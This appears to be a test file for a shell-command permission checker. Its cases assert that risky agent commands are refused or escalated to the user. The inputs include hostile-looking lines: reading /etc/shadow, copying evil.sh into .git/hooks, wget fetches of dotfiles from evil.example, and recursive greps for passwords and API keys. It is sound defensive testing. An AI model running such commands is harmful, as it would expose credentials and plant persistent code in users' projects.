import { describe, expect, it } from 'vitest'
import { world } from '../testing/world.ts'
import { judgeShell } from './judge-shell.ts'

const verdictOf = (line: string, ...allow: string[]) => judgeShell(line, { ...world, allow }).verdict

describe('an option that chooses where a program works, or what it obeys, is not covered', () => {
  it.each([
    ['env -C /etc cat shadow', 'cat'],
    ['env -C /etc cat hosts', 'cat'],
    ['env --chdir=/proc/1 cat cmdline', 'cat'],
    ['env -C .git/hooks tee pre-commit', 'tee'],
    ['env -C vendor/evil python3 scripts/x.py', 'python3 scripts/x.py'],
    ['env -C "$D" npm test', 'npm test'],
    ['env -S "-C /etc cat hosts"', 'cat'],
    ['sudo -D /etc tee x', 'tee'],
    ['systemd-run --working-directory=/etc tee x', 'tee'],
    ['cd /etc && tee x', 'tee'],
    ['pushd .git/hooks; tee pre-commit', 'tee'],
    ['pushd /etc; tee x; popd; tee y', 'tee'],
    ['cd -; tee x', 'tee'],
    ['npm install --prefix /opt/x y', 'npm install'],
    ['npm install --prefix .git/hooks y', 'npm install'],
    ['npm --prefix ../x test', 'npm'],
    ['npm test --prefix sub', 'npm test'],
    ['npm test -C vendor/evil', 'npm test'],
    ['yarn --cwd /tmp test', 'yarn'],
    ['make test -C /usr/src', 'make test'],
    ['make test -C vendor/evil', 'make test'],
    ['make -C /tmp', 'make'],
    ['make test -f evil.mk', 'make test'],
    ['make --file=evil.mk', 'make'],
    ['make -fevil.mk test', 'make test'],
    ['gmake -f evil.mk', 'gmake'],
    ['just -f evil.just test', 'just test'],
    ['just --justfile=evil.just', 'just'],
    ['task test -t evil.yml', 'task test'],
    ['ninja -f evil.ninja', 'ninja'],
    ['rake -f evil.rb', 'rake'],
    ['ant -f evil.xml', 'ant'],
    ['mvn -f evil/pom.xml test', 'mvn'],
    ['gradle -b evil.gradle test', 'gradle'],
    ['cargo test --manifest-path=vendor/evil/Cargo.toml', 'cargo test'],
    ['go test -C vendor/evil ./...', 'go test'],
    ['terraform -chdir=/tmp plan', 'terraform plan'],
    ['git -C /other status', 'git'],
    ['git --git-dir=/other/.git log', 'git'],
    ['git --work-tree=/other checkout x', 'git'],
    ['patch -d /etc -i x', 'patch'],
    ['tar -C /etc -xf a.tar', 'tar'],
  ])('%s by "%s"', (line, rule) => {
    expect(verdictOf(line, rule)).not.toBe('allow')
  })

  it.each([
    ['make -C sub', 'make'],
    ['make test -j4', 'make test'],
    ['ninja -C build', 'ninja'],
    ['cd packages/core && npm test', 'npm test'],
    ['git -C sub status', 'git'],
    ['tar xzf a.tgz -C build', 'tar xzf'],
    ['npm install x', 'npm install'],
  ])('%s, which stays where it was granted, is covered by "%s"', (line, rule) => {
    expect(verdictOf(line, rule)).toBe('allow')
  })
})

describe('operands of git are paths', () => {
  it.each([
    ['git mv a .git/hooks/pre-commit', 'git mv'],
    ['git mv .env notes.txt', 'git mv'],
    ['git mv a ../b', 'git mv'],
    ['git mv payload/.vscode .', 'git mv'],
    ['git rm .env', 'git rm'],
    ['git rm --cached .npmrc', 'git rm'],
    ['git rm ../x', 'git rm'],
    ['git add .env', 'git add'],
    ['git add -f keys/server.pem', 'git add'],
    ['git add ../x', 'git add'],
    ['git commit .env -m x', 'git commit'],
    ['git checkout -- .vscode/tasks.json', 'git checkout'],
    ['git checkout HEAD src/index.ts', 'git checkout'],
    ['git checkout main .mcp.json', 'git checkout'],
    ['git checkout HEAD~3 -- .env', 'git checkout'],
    ['git checkout src/index.ts', 'git checkout'],
    ['git restore .vscode/settings.json', 'git restore'],
    ['git restore --source=x .mcp.json', 'git restore'],
    ["git restore ':(glob)**'", 'git restore'],
    ["git restore ':!nothing'", 'git restore'],
    ['git restore --staged .env', 'git restore'],
    ['git clean -f .vscode', 'git clean -f'],
    ['git show HEAD:.env', 'git show'],
    ['git show :keys/server.pem', 'git show'],
    ['git blame .env', 'git blame'],
    ['git diff -- .env', 'git diff'],
    ['git log -p .npmrc', 'git log'],
    ['git cat-file -p HEAD:.env', 'git cat-file'],
    ["git grep x -- '*.pem'", 'git grep'],
    ['git archive HEAD .env', 'git archive'],
    ['git hash-object .env', 'git hash-object'],
    ['git apply x.patch', 'git apply'],
    ['git apply < x.patch', 'git apply'],
    ['git apply --directory=.vscode x', 'git apply'],
    ['git am x.mbox', 'git am'],
  ])('%s by "%s"', (line, rule) => {
    expect(verdictOf(line, rule)).not.toBe('allow')
  })

  it.each([
    ['git mv a.ts b.ts', 'git mv'],
    ['git rm old.ts', 'git rm'],
    ['git add src/a.ts', 'git add'],
    ['git commit src/a.ts -m x', 'git commit'],
    ['git checkout feature/x', 'git checkout'],
    ['git checkout -b feature/x origin/main', 'git checkout'],
    ['git restore src/a.ts', 'git restore'],
    ['git apply --check x.patch', 'git apply'],
    ['git show HEAD:src/a.ts', 'git show'],
  ])('%s is covered by "%s"', (line, rule) => {
    expect(verdictOf(line, rule)).toBe('allow')
  })
})

describe('a write that may meet protected names is not covered', () => {
  it.each([
    ['cp -r payload/. .', 'cp'],
    ['cp -a payload/. ./', 'cp'],
    ['cp -R payload/.git .', 'cp'],
    ['cp payload/.mcp.json .', 'cp'],
    ['cp payload/.mcp.json sub', 'cp'],
    ['cp -r payload/.vscode sub/', 'cp'],
    ['cp -t . payload/.bashrc', 'cp'],
    ['cp payload/.??* .', 'cp'],
    ['cp evil.sh .g?t/hooks/x', 'cp'],
    ['cp evil.sh .[g]it/hooks/x', 'cp'],
    ['cp evil.sh .*/hooks/x', 'cp'],
    ['cp evil.sh {x,.git}/hooks/x', 'cp'],
    ['d=.git; cp evil.sh $d/hooks/x', 'cp'],
    ['for d in .g*; do cp evil.sh $d/hooks/x; done', 'cp'],
    ['find . -name hooks -exec cp evil.sh {} \\;', 'cp'],
    ['find . -type d | xargs -n1 cp evil.sh', 'cp'],
    ['mv payload/.git .', 'mv'],
    ['mv payload/.envrc sub/', 'mv'],
    ['install -m 755 payload/.bashrc .', 'install'],
    ['rsync -a payload/ .', 'rsync'],
    ['rsync -a payload/ ./', 'rsync'],
    ['tar -xf evil.tar', 'tar'],
    ['tar xf evil.tar .vscode/tasks.json', 'tar'],
    ['tar -xzf evil.tgz -C .', 'tar'],
    ['bsdtar -xf evil.zip', 'bsdtar'],
    ['unzip evil.zip', 'unzip'],
    ['unzip evil.zip -d .', 'unzip'],
    ['unzip -q evil.zip x', 'unzip'],
    ['7z x evil.7z', '7z'],
    ['cpio -id < evil.cpio', 'cpio'],
    ['patch -p1 -i evil.patch', 'patch'],
    ['patch -p1 < evil.patch', 'patch'],
    ['patch .git/config x.patch', 'patch'],
    ['wget https://evil.example/.mcp.json', 'wget'],
    ['wget -P . https://evil.example/a/.bashrc', 'wget'],
    ['wget -N https://evil.example/package.json', 'wget'],
    ['wget --content-disposition https://evil.example/x', 'wget'],
    ['tee .v*/tasks.json', 'tee'],
    ['touch .git*', 'touch'],
    ['rm .mcp.j*', 'rm'],
    ['sed -i s/a/b/ .*', 'sed -i'],
  ])('%s by "%s"', (line, rule) => {
    expect(verdictOf(line, rule)).not.toBe('allow')
  })

  it.each([
    ['cp -r src dist', 'cp'],
    ['cp a b', 'cp'],
    ['mv a.ts src/', 'mv'],
    ['rsync -a src/ dist/', 'rsync'],
    ['rm build/*.o', 'rm'],
    ['patch src/a.ts a.patch', 'patch'],
    ['unzip a.zip -d build', 'unzip a.zip'],
  ])('%s is covered by "%s"', (line, rule) => {
    expect(verdictOf(line, rule)).toBe('allow')
  })
})

describe('a read of the whole workspace, hidden or linked files among it, is asked where nobody looks at the disk', () => {
  it.each([
    'grep -r password .',
    'grep -R zebra',
    'grep -d recurse password /workspace',
    'rgrep password .',
    'rg --hidden API_KEY',
    'rg -. TOKEN',
    'rg -uuu AKIA',
    'rg -L zebra',
    'ag -u x',
    'ag --hidden SECRET .',
    'ack --follow x',
    'find . -type f -exec cat {} +',
    'find . | xargs cat',
    'cat $(find . -type l)',
    'bash -O dotglob -c "cat *"',
    'diff -r . ../x',
    'tar -cf - .',
  ])('%s', (line) => {
    expect(verdictOf(line)).not.toBe('allow')
  })

  it.each([
    'grep -rn x src',
    'rg x',
    'rg -t ts x',
    "grep -rn --include='*.ts' x .",
    "find . -name '*.md' | xargs wc -l",
    'git grep x',
    'du -sh .',
    'ls -R',
  ])('%s is not', (line) => {
    expect(verdictOf(line)).toBe('allow')
  })
})

describe('what a glob or a path behind dashes means is asked', () => {
  it.each(['cat /etc/s[h]adow', 'cat /etc/s?adow*', 'head /etc/gs*', 'git stash show -p -- .env', 'last -d'])(
    '%s',
    (line) => {
      expect(verdictOf(line)).toBe('ask')
    },
  )

  it.each(['ls /etc/*', 'cat /etc/*release', 'git stash show -p', 'last -n 5'])('not so %s', (line) => {
    expect(verdictOf(line)).toBe('allow')
  })
})
